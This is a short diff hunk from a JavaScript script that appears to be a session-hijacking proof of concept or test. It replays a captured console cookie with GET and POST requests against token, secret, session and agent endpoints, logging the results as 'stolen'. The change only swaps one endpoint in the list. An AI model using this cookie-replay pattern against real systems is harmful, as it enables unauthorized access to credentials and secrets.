@@ -250,7 +250,7 @@ await tab.close();
 thief.close();
 seen.notes.cookieSeen = cookie.includes("jct_console_");
 seen.notes.stolen = [];
-for (const path of ["/api/v1/status", "/api/v1/tokens", "/console/session", "/api/v1/audit", "/api/v1/secrets", "/api/v1/events", "/api/v1/approvals", "/api/v1/upstreams", "/console/tickets", "/api/coding-agents"]) {
+for (const path of ["/api/v1/status", "/api/v1/tokens", "/console/session", "/api/v1/audit", "/api/v1/secrets", "/api/v1/events", "/api/v1/approvals", "/api/v1/upstreams", "/api/capability-router/endpoints", "/api/coding-agents"]) {
   for (const method of ["GET", "POST"]) seen.notes.stolen.push((await fetch(url + path, { method, headers: { Cookie: cookie } })).status);
 }
 
